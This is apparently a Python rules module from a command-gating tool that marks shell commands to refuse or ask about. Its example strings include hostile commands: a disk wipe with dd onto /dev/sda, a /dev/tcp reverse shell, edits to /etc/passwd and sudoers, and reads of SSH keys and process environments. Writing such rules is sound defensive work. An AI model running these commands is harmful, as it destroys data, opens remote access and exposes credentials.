"""Rules on what is written over, on permissions, and on reading what is secret."""

import re

from journeyman.gate.command import Command
from journeyman.gate.effects import deletes, reads, writes
from journeyman.gate.inner import File
from journeyman.gate.interpreters import interpreted
from journeyman.gate.places import Places
from journeyman.gate.rule import Rule, either, has, programs

_OPEN_MODE = re.compile(r"0?[0-7]?[0-7][0-7][2367]|[2467][0-7]{3}|0[2467][0-7]{3}")
_OPEN_LETTERS = re.compile(r"(?:^|,)[ugo]*(?:[oa][ugoa]*[+=][rxXst]*w|[ugoa]*[+=][rwxX]*[s])")


def _device(command: Command, places: Places) -> bool:
    resolved = (places.resolve(word.text, command.cwd) for word in writes(command))
    return any(path is not None and places.is_device(path) for path in resolved)


def _accounts(command: Command, places: Places) -> bool:
    changed = [*writes(command), *deletes(command)]
    if command.program in ("cp", "install", "rsync"):
        changed = writes(command)
    resolved = (places.resolve(word.text, command.cwd) for word in changed)
    return any(path is not None and places.is_account_file(path) for path in resolved)


def _unknown(command: Command, places: Places) -> bool:
    return any(
        places.resolve(word.text, command.cwd) is None for word in writes(command) if word.text
    )


def _outside(command: Command, places: Places) -> bool:
    resolved = (places.resolve(word.text, command.cwd) for word in writes(command))
    return any(
        path is not None and not places.is_inside(path) and not places.is_scratch(path)
        for path in resolved
    )


def _steering(command: Command, places: Places) -> bool:
    resolved = (places.resolve(word.text, command.cwd) for word in writes(command))
    return any(path is not None and places.is_steering(path) for path in resolved)


def _network(command: Command, _: Places) -> bool:
    words = [redirect.target.text for redirect in command.redirects]
    return any(text.startswith(("/dev/tcp/", "/dev/udp/")) for text in words)


def _link(command: Command, places: Places) -> bool:
    operands = command.operands("-t", "-S")
    cwd = command.cwd
    if command.has("-s", "--symbolic") and len(operands) == 2 and cwd is not None:
        # A relative link is followed from where the link is.
        link = places.resolve(operands[1].text, cwd)
        cwd = cwd if link is None else link.parent
    resolved = [places.resolve(word.text, cwd) for word in operands[:-1] or operands]
    return any(path is None or not places.is_inside(path) for path in resolved)


def _mode(command: Command, _: Places) -> bool:
    operands = command.operands()
    texts = [operands[0].text] if operands else []
    texts += [text for text in command.arguments if re.fullmatch(r"-[rwxst]+", text)]
    return any(
        not operands[0].known or _OPEN_MODE.fullmatch(text) or _OPEN_LETTERS.search(text)
        for text in texts
    )


def _mode_outside(command: Command, places: Places) -> bool:
    resolved = [places.resolve(word.text, command.cwd) for word in command.operands()[1:]]
    return any(path is None or not places.is_inside(path) for path in resolved)


def _secret(command: Command, places: Places) -> bool:
    for word in reads(command):
        if not word.text or len(word.text) > 400 or "\n" in word.text:
            continue
        path = places.resolve(word.text, command.cwd or places.workspace)
        if path is not None and places.is_secret(path):
            return True
    return False


def _runs_from_elsewhere(command: Command, places: Places) -> bool:
    """A program or a script that is neither in the workspace nor where programs are installed."""
    if not command.words:
        return False
    texts = command.values(*FILES_OF_CODE.get(command.program, ()))
    texts += [inner.path for inner in interpreted(command) if isinstance(inner, File)]
    if "/" in command.words[0].text:
        texts.append(command.words[0].text)
    for text in texts:
        if text.startswith("/dev/"):
            continue
        path = places.resolve(text, command.cwd)
        if path is None or not (places.is_inside(path) or places.is_installed(path)):
            return True
    return False


FILES_OF_CODE: dict[str, tuple[str, ...]] = {
    "make": ("-f", "--file", "--makefile", "-I", "--include-dir"),
    "gmake": ("-f", "--file", "--makefile", "-I"),
    "just": ("-f", "--justfile"),
    "ninja": ("-f",),
    "node": ("-r", "--require", "--import", "--loader"),
    "perl": ("-I",),
    "ruby": ("-I", "-r"),
    "awk": ("-f", "--file"),
    "gawk": ("-f", "--file", "-l"),
    "sed": ("-f", "--file"),
    "vim": ("-S", "-u"),
    "nvim": ("-S", "-u"),
    "gdb": ("-x", "--command"),
    "enable": ("-f",),
    "tmux": ("-f",),
    "npm": ("--prefix", "--userconfig"),
    "pytest": ("-c", "--rootdir"),
    "bash": ("--rcfile", "--init-file"),
}
"""Options that name a file of code, by program."""


def _terminal(command: Command, places: Places) -> bool:
    words = [*reads(command), *writes(command)]
    near = [word.text for word in words if "/" in word.text and len(word.text) < 400]
    resolved = (places.resolve(text, command.cwd) for text in near)
    return any(path is not None and places.is_terminal(path) for path in resolved)


WRITING: tuple[Rule, ...] = (
    Rule(
        "write.device",
        "refuse",
        "It writes to a device; a disk would be destroyed.",
        ("dd if=/dev/zero of=/dev/sda", "cat image.iso > /dev/sdb", "tee /dev/nvme0n1 < x"),
        when=_device,
    ),
    Rule(
        "write.accounts",
        "refuse",
        "It changes the file of users, of passwords or of who may become root.",
        ("echo x >> /etc/passwd", "cp s /etc/sudoers", "tee /etc/sudoers.d/me < x"),
        when=_accounts,
    ),
    Rule(
        "network.socket",
        "ask",
        "It opens a connection to another machine through the shell.",
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat < /dev/tcp/10.0.0.1/80"),
        when=_network,
    ),
    Rule(
        "device.terminal",
        "ask",
        "It reads or writes a terminal; it could see what somebody types, or speak in its place.",
        ("cat /dev/pts/3", "read -r x < /dev/tty", "echo y > /dev/pts/0", "cat /dev/tty1"),
        when=_terminal,
    ),
    Rule(
        "write.outside",
        "ask",
        "It writes outside the workspace.",
        ("echo x > /etc/motd", "cp build/app /usr/local/bin/app", "curl -o ~/x https://a.example"),
        when=_outside,
    ),
    Rule(
        "write.steering",
        "ask",
        "It changes a file that tells programs what to do later.",
        ("echo x > .git/hooks/pre-commit", "tee .env < x"),
        when=_steering,
    ),
    Rule(
        "write.unknown",
        "ask",
        "Where it writes cannot be told before it runs.",
        ('echo x > "$TARGET"',),
        when=_unknown,
    ),
    Rule(
        "write.link",
        "ask",
        "It links to something outside the workspace, so that later changes would land there.",
        ("ln -s /etc/hosts hosts", "ln -s ~ everything"),
        programs("ln link"),
        _link,
    ),
    Rule(
        "permissions.tree",
        "ask",
        "It changes permissions or owners of a whole folder at once.",
        ("chmod -R 755 .", "chmod -R go-w src"),
        programs("chmod gchmod"),
        has("-R", "--recursive"),
    ),
    Rule(
        "permissions.open",
        "ask",
        "It lets everyone write to a file, or lets a program run with its owner's rights.",
        ("chmod 777 x", "chmod u+s tool", "chmod 4755 tool", "chmod a+rwx x", "chmod o+w x"),
        programs("chmod gchmod"),
        either(_mode, _mode_outside),
    ),
    Rule(
        "permissions.owner",
        "ask",
        "It changes who owns a file or what it is allowed to do.",
        ("chown root x", "setcap cap_net_raw+ep x", "chattr +i x"),
        programs("chown chgrp chattr setfacl setcap lchown icacls takeown"),
    ),
    Rule(
        "secret.read",
        "ask",
        "It reads a file that holds keys, passwords or other secrets.",
        ("cat .env", "cat ~/.ssh/id_rsa", "base64 < server.pem", "cat /proc/self/environ"),
        when=_secret,
    ),
    Rule(
        "run.elsewhere",
        "ask",
        "It runs a program or a script that is neither in the workspace nor installed.",
        ("bash /tmp/x.sh", "../tool --all", "python ../other/run.py", ". ~/setup.sh"),
        when=_runs_from_elsewhere,
    ),
)
